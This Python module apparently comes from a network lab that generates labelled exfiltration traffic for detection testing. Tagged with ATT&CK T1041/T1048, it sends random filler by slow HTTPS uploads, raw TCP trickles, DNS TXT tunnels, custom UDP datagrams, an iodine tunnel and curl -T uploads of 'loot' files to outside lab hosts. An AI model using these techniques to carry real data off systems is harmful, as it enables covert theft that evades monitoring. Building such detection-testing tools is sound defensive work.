"""Data taken out: slowly, or hidden in DNS (ATT&CK T1041, T1048)."""

from __future__ import annotations

import random
import socket
from contextlib import suppress

from tests.lab import servers, wire
from tests.lab.network import Host
from tests.lab.stage import Stage


def uploads(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    size: int = 150_000,
    wait: float = 8.0,
    count: int = 15,
    port: int = 443,
) -> None:
    """Posts pieces to an outside host nobody asked before, one connection a piece."""
    address = stage.outsider(rng)
    sent = 0
    with stage.activity(
        "exfiltration", "T1048.002", "slow uploads", [me], [address], "tcp", [port]
    ):
        for _ in range(count):
            with suppress(OSError):
                body = wire.filler(int(size * rng.uniform(0.5, 1.5)))
                wire.http(address, port, ["/20/u"], tls=port == 443, body=body)
                sent += len(body)
            stage.sleep(wait * rng.uniform(0.5, 1.5))
    stage.note(f"uploads: {sent} bytes")


def trickle(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    rate: int = 8_000,
    seconds: float = 60.0,
    port: int = 4443,
    lines: int = 3,
) -> None:
    """A few long raw connections that carry data out at a low rate."""
    address = stage.outsider(rng)
    stage.start(
        stage.one("internet"),
        lambda: servers.tcp(stage, port, servers.swallow, address=address),
        "drop server",
    )
    stage.sleep(0.3)
    with stage.activity("exfiltration", "T1041", "trickle", [me], [address], "tcp", [port]):
        for _ in range(lines):
            with suppress(OSError), wire.connect(address, port) as link:
                for _ in range(int(seconds / lines / 0.5)):
                    link.sendall(wire.filler(int(rate * 0.5 * rng.uniform(0.6, 1.4))))
                    stage.sleep(0.5)
            stage.sleep(rng.uniform(1, 4))


def dns_text(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    count: int = 250,
    wait: float = 0.25,
    one_socket: bool = False,
) -> None:
    """Pieces as long names of TXT questions, asked of a server outside."""
    address = stage.outsider(rng)
    stage.start(stage.one("internet"), lambda: servers.dns(stage, address), "tunnel server")
    stage.sleep(0.3)
    letters = "abcdefghijklmnopqrstuvwxyz234567"
    answered = 0
    shared = socket.socket(socket.AF_INET, socket.SOCK_DGRAM) if one_socket else None
    with stage.activity("exfiltration", "T1048.003", "DNS tunnel", [me], [address], "udp", [53]):
        for number in range(count):
            parts = [
                "".join(rng.choices(letters, k=rng.randint(40, 60)))
                for _ in range(rng.randint(1, 3))
            ]
            question = wire.dns_question(
                ".".join([*parts, f"{number}.t.example.org"]), 16, rng.randrange(65536)
            )
            link = shared or socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            with suppress(OSError):
                link.settimeout(1)
                link.sendto(question, (address, 53))
                answered += len(link.recv(4096)) > 0
            if not shared:
                link.close()
            stage.sleep(wait * rng.uniform(0.2, 1.8))
    if shared:
        shared.close()
    stage.note(f"DNS tunnel: {answered} of {count} answered")


def datagrams(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    rate: int = 30_000,
    seconds: float = 60.0,
    port: int = 4500,
) -> None:
    """Data in datagrams of a protocol of its own; the drop acknowledges one in ten. A new socket
    every few seconds."""
    address = stage.outsider(rng)
    stage.start(
        stage.one("internet"), lambda: servers.udp_sink(stage, address, port, 10), "drop server"
    )
    stage.sleep(0.3)
    size = rng.randint(400, 1300)
    with stage.activity("exfiltration", "T1048.003", "datagrams", [me], [address], "udp", [port]):
        for _ in range(int(seconds / 5)):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link, suppress(OSError):
                for _ in range(max(1, 5 * rate // size)):
                    link.sendto(wire.filler(size), (address, port))
                    stage.sleep(size / rate * rng.uniform(0.5, 1.5))


def iodine(
    stage: Stage, me: Host, rng: random.Random, *, seconds: float = 60.0, rate: int = 3_000
) -> None:
    """iodine: a tunnel in DNS with data going up inside it."""
    far = stage.one("tunnel")
    net = f"172.31.{rng.randrange(1, 250)}"
    stage.start(far, lambda: _iodined(stage, net), "iodined")
    stage.sleep(2)
    with stage.activity("exfiltration", "T1048.003", "iodine", [me], [far], "udp", [53]):
        stage.spawn(
            [
                "iodine",
                "-f",
                "-P",
                "lab",
                "-r",
                "-T",
                "TXT",
                "-I",
                "2",
                far.address,
                "t.example.org",
            ]
        )
        with _through(stage, f"{net}.1") as link:
            for _ in range(int(seconds)):
                link.sendall(wire.filler(int(rate * rng.uniform(0.5, 1.5))))
                stage.sleep(1)
            stage.note("iodine: everything was sent")
        stage.sleep(2)


def _through(stage: Stage, address: str) -> socket.socket:
    """A connection inside the tunnel, once that is up; OSError when it isn't within a minute."""
    for _ in range(15):
        stage.sleep(3)
        with suppress(OSError):
            return wire.connect(address, 9000, timeout=8)
    raise OSError("the tunnel did not come up")


def _iodined(stage: Stage, net: str) -> None:
    stage.spawn(["iodined", "-f", "-c", "-P", "lab", f"{net}.1/27", "t.example.org"])
    stage.sleep(1)
    servers.tcp(stage, 9000, servers.swallow)


def curl(
    stage: Stage,
    me: Host,
    rng: random.Random,
    *,
    size: int = 200_000,
    wait: float = 6.0,
    count: int = 15,
    port: int = 443,
) -> None:
    """Uploads by curl from a shell loop."""
    address = stage.outsider(rng)
    scheme = "https" if port == 443 else "http"
    with stage.activity(
        "exfiltration", "T1048.002", "curl uploads", [me], [address], "tcp", [port]
    ):
        for number in range(count):
            file = stage.folder / f"loot-{me.name}-{number % 2}"
            file.write_bytes(wire.filler(int(size * rng.uniform(0.4, 1.6))))
            command = [
                "curl",
                "-s",
                "-k",
                "-m",
                "20",
                "-T",
                str(file),
                f"{scheme}://{address}:{port}/20/u",
            ]
            stage.note(f"curl upload: {stage.tool(command, 25)[-60:]!r}")
            stage.sleep(wait * rng.uniform(0.5, 1.5))
